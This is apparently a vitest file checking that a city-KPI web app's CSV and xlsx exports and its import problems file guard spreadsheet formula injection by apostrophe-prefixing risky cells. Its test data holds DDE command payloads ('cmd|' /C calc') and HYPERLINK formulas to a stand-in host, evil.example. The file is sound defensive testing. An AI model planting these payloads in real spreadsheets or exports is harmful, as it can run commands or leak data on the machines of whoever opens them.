import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { unzipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openAppContext, type AppContext } from '../../src/app-context.ts';
import { createApp } from '../../src/web/app.tsx';
import { csvCell } from '../../src/formats/csv/write-csv.ts';
import { makeUser, StaffClient } from './staff-helpers.ts';

/*
 * Issue 9, point 5: formula payloads typed by staff (a KPI name, an actual's note and source, a
 * status justification, a commentary, a plan title) come out of every public export and the
 * import problems file as text a spreadsheet will not run: every text cell that starts with
 * = + - @ tab or CR (or their full-width forms) starts with an apostrophe, while numbers stay numbers.
 */

const PAYLOADS = {
  kpiName: "-2+3+cmd|' /C calc'!A0",
  note: '-0+HYPERLINK("http://evil.example/?x","click")',
  source: '@SUM(1+1)*cmd|\'/C calc\'!A0',
  justification: '＝1+1 全角の等号',
  commentary: '=HYPERLINK("http://evil.example")',
  planTitle: '+cmd|\' /C notepad\'!A0',
} as const;

let ctx: AppContext;
let app: ReturnType<typeof createApp>;
let planId = '';
const KPI = 'new-farmers';

beforeAll(async () => {
  ctx = await openAppContext({ dataDir: '', databaseUrl: undefined, seed: true, inMemory: true }, { announce: () => {} });
  app = createApp({ db: ctx.db, store: ctx.store, staff: ctx.staff });
  await makeUser(ctx, 'inj-sec', 'ichinoseki', 'secretariat');
  const c = new StaffClient(app);
  expect((await c.login('inj-sec')).status).toBe(303);
  const data = (await ctx.store.get('ichinoseki'))!;
  const kpi = data.kpis.find((k) => k.id === KPI)!;
  planId = data.plans.find((p) => p.kind === 'sdgs-future-city')!.id;
  const base = `/staff/cities/ichinoseki/kpis/${KPI}`;
  expect((await c.submit(base, `${base}/edit`, { name: PAYLOADS.kpiName, nameEn: PAYLOADS.kpiName, unit: kpi.unit, direction: kpi.direction ?? 'up' })).status).toBe(303);
  expect((await c.submit(`${base}/actuals/new`, `${base}/actuals`, { at: '2023年度', value: `131 ${kpi.unit}`, note: PAYLOADS.note, source: PAYLOADS.source, reason: PAYLOADS.note })).status).toBe(303);
  expect((await c.submit(base, `${base}/override`, { status: 'on-track', justification: PAYLOADS.justification })).status).toBe(303);
  expect((await c.submit(base, `${base}/commentary`, { year: '2023', body: PAYLOADS.commentary })).status).toBe(303);
  // Nothing is public before the secretariat approves it (issue 10.1): approve the actual and the commentary.
  await c.get('/staff/cities/ichinoseki/review');
  for (const [entity, key] of [['actual', `${KPI}@FY2023`], ['commentary', `${KPI}@2023`]] as const) expect((await c.post('/staff/cities/ichinoseki/review', { entity, key, action: 'approve' })).status).toBe(303);
  const planPage = `/staff/cities/ichinoseki/plans/${planId}`;
  const plan = data.plans.find((p) => p.id === planId)!;
  expect((await c.submit(planPage, planPage, { title: PAYLOADS.planTitle, titleEn: '', vision: plan.vision ?? '' })).status).toBe(303);
});
afterAll(() => ctx.close());

/** What a spreadsheet would run: a text starting with a trigger that is not a plain number. */
const runnable = (text: string) => /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(text) && !/^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$/.test(text);

/** Every text cell of a CSV (BOM stripped), parsed as a spreadsheet would split it. */
function csvCells(bytes: Uint8Array): string[] {
  const text = new TextDecoder().decode(bytes).replace(/^\uFEFF/, '');
  return (parse(text, { relax_column_count: true }) as string[][]).flat();
}

async function xlsxCells(bytes: Uint8Array): Promise<{ texts: string[]; numbers: number }> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(bytes as unknown as ArrayBuffer);
  const texts: string[] = [];
  let numbers = 0;
  wb.eachSheet((ws) =>
    ws.eachRow((row) =>
      row.eachCell((cell) => {
        if (typeof cell.value === 'string') texts.push(cell.value);
        else if (typeof cell.value === 'number') numbers++;
      }),
    ),
  );
  return { texts, numbers };
}

describe('formula injection in exports', () => {
  it('writes the payloads guarded in every CSV and xlsx export, leaving numbers as numbers', async () => {
    const exports = [
      '/cities/ichinoseki?format=csv',
      `/cities/ichinoseki/plans/${planId}?format=csv`,
      '/cities/ichinoseki/kpis?format=csv',
      `/cities/ichinoseki/kpis/${KPI}?format=csv`,
      '/sdgs?format=csv',
      ...Array.from({ length: 17 }, (_, i) => `/sdgs/${i + 1}?format=csv`),
      '/compare?cities=ichinoseki&cities=tsukuba&format=csv',
      `/search?q=${encodeURIComponent('cmd')}&format=csv`,
      '/cities/ichinoseki/download.zip',
      '/cities/ichinoseki/import-template.csv',
      '/cities/ichinoseki/import-template.xlsx',
      `/cities/ichinoseki/plans/${planId}/sheet.xlsx`,
      `/cities/ichinoseki/plans/${planId}/sheet.xlsx?year=2023`,
    ];
    const seen = new Set<string>();
    let cells = 0;
    for (const path of exports) {
      const res = await app.request(path);
      expect(res.status, path).toBe(200);
      const bytes = new Uint8Array(await res.arrayBuffer());
      const type = res.headers.get('content-type') ?? '';
      const files: [string, Uint8Array][] = type.includes('zip') ? Object.entries(unzipSync(bytes)) : [[type.includes('spreadsheetml') ? `${path}.xlsx` : `${path}.csv`, bytes]];
      for (const [name, file] of files) {
        if (name.endsWith('.json') || name.endsWith('.txt')) continue;
        const texts = name.endsWith('.xlsx') ? (await xlsxCells(file)).texts : csvCells(file);
        cells += texts.length;
        for (const t of texts) {
          expect(runnable(t), `${path} ${name}: ${JSON.stringify(t)}`).toBe(false);
          for (const [key, payload] of Object.entries(PAYLOADS)) if (t.includes(payload.slice(0, 12))) seen.add(key);
        }
      }
    }
    expect(cells).toBeGreaterThan(1000);
    // The payloads did reach the exports (guarded): the check above is not vacuous.
    expect([...seen].sort()).toEqual(['commentary', 'justification', 'kpiName', 'note', 'planTitle', 'source']);
    // The guarded KPI name reads as the apostrophe-prefixed text in the CSV.
    const kpis = new TextDecoder().decode(new Uint8Array(await (await app.request('/cities/ichinoseki/kpis?format=csv')).arrayBuffer()));
    expect(kpis).toContain(csvCell(PAYLOADS.kpiName));
    expect(csvCell(PAYLOADS.kpiName)).toBe(`'${PAYLOADS.kpiName}`);
  });

  it('keeps figures numbers: negative values are not guarded, numeric cells stay numeric in the sheet', async () => {
    expect(csvCell(-21.7)).toBe('-21.7');
    expect(csvCell('-21.7')).toBe('-21.7');
    const res = await app.request(`/cities/ichinoseki/plans/${planId}/sheet.xlsx`);
    const { numbers } = await xlsxCells(new Uint8Array(await res.arrayBuffer()));
    expect(numbers).toBeGreaterThan(20);
  });

  it('guards the raw cells of the import problems file', async () => {
    const c = new StaffClient(app);
    await c.login('inj-sec');
    await c.get('/staff/cities/ichinoseki/import');
    const csv = `指標ID,指標名,SDGターゲット,時点,値,単位,備考,出典\r\n${csvCell('=cmd|" /C calc"!A0')},x,,${csvCell('-2+3+cmd')},${csvCell('@SUM(1)')},人,,\r\n`;
    const form = new FormData();
    form.set('_csrf', c.csrf);
    form.set('file', new File([csv.replace(/'(?=[=@-])/g, '')], 'payload.csv'));
    const cookie = (c as unknown as { cookies: Map<string, string> }).cookies;
    const headers = { cookie: [...cookie].map(([k, v]) => `${k}=${v}`).join('; ') };
    const preview = await app.request('/staff/cities/ichinoseki/import', { method: 'POST', body: form, headers });
    expect(preview.status).toBe(422);
    const id = /\/import\/([^/"]+)\/problems\.csv/.exec(await preview.text())![1]!;
    const problems = await app.request(`/staff/cities/ichinoseki/import/${id}/problems.csv`, { headers });
    expect(problems.status).toBe(200);
    const texts = csvCells(new Uint8Array(await problems.arrayBuffer()));
    expect(texts.some((t) => t.includes('=cmd|'))).toBe(true);
    for (const t of texts) expect(runnable(t), JSON.stringify(t)).toBe(false);
  });
});
